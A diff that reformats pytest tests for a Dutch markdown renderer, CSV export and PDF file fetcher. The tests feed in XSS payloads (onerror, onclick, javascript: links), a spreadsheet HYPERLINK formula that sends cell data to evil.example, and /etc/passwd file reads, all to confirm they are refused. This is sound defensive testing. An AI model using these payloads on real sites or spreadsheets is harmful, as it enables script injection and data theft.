@@ -25,12 +25,15 @@ def test_the_check_renders_with_the_sites_extensions(root: Path) -> None:
     assert markup.render(sample, policy)[0] == markup.render(sample)[0]
 
 
-@pytest.mark.parametrize("text", [
-    "Een alinea.\n{: onclick=\"alert(1)\" }",
-    "[x](https://example.org){: href=\"javascript:alert(1)\" }",
-    "Tekst <img src=x onerror=alert(1)>",
-    "!!! note \"<b onmouseover=alert(1)>t</b>\"\n    n",
-])
+@pytest.mark.parametrize(
+    "text",
+    [
+        'Een alinea.\n{: onclick="alert(1)" }',
+        '[x](https://example.org){: href="javascript:alert(1)" }',
+        "Tekst <img src=x onerror=alert(1)>",
+        '!!! note "<b onmouseover=alert(1)>t</b>"\n    n',
+    ],
+)
 def test_what_the_check_refuses_it_sees_in_the_rendered_html(text: str) -> None:
     html, raw = markup.render(text)
     assert raw or "alert(1)" in html  # the renderer really would put it on the page ...
@@ -43,8 +46,9 @@ def test_kits_print_raw_html_as_text_and_links_like_the_site() -> None:
     assert '<a href="https://example.org">een link</a>' in printed
 
 
-@pytest.mark.parametrize("value", ['=HYPERLINK("https://evil.example/?x="&A1,"klik")', "+31 1", "-2+3", "@SUM(A1)",
-                                   "\tTAB", "\rCR", "＝1+1"])
+@pytest.mark.parametrize(
+    "value", ['=HYPERLINK("https://evil.example/?x="&A1,"klik")', "+31 1", "-2+3", "@SUM(A1)", "\tTAB", "\rCR", "＝1+1"]
+)
 def test_csv_cells_never_start_a_formula(value: str) -> None:
     out = io.StringIO()
     csv.writer(out).writerow([export.cell(value)])
@@ -65,9 +69,12 @@ def test_weasyprint_loads_only_the_kits_own_files(tmp_path: Path) -> None:
     secret = tmp_path / "geheim.txt"
     secret.write_text("GEHEIM-1234", encoding="utf-8")
     fetcher = safe_fetcher([own])
-    html = (f'<img src="{secret.as_uri()}"><img src="/etc/hostname"><img src="https://example.org/x.png">'
-            '<img src="ok.svg"><link rel="stylesheet" href="file:///etc/passwd"><p>tekst</p>')
+    html = (
+        f'<img src="{secret.as_uri()}"><img src="/etc/hostname"><img src="https://example.org/x.png">'
+        '<img src="ok.svg"><link rel="stylesheet" href="file:///etc/passwd"><p>tekst</p>'
+    )
     pdf = HTML(string=html, base_url=own.as_uri() + "/", url_fetcher=fetcher).write_pdf()
     assert b"GEHEIM-1234" not in pdf
-    assert sorted(fetcher.allow.refused) == sorted([secret.as_uri(), "file:///etc/hostname",
-                                                    "https://example.org/x.png", "file:///etc/passwd"])
+    assert sorted(fetcher.allow.refused) == sorted(
+        [secret.as_uri(), "file:///etc/hostname", "https://example.org/x.png", "file:///etc/passwd"]
+    )
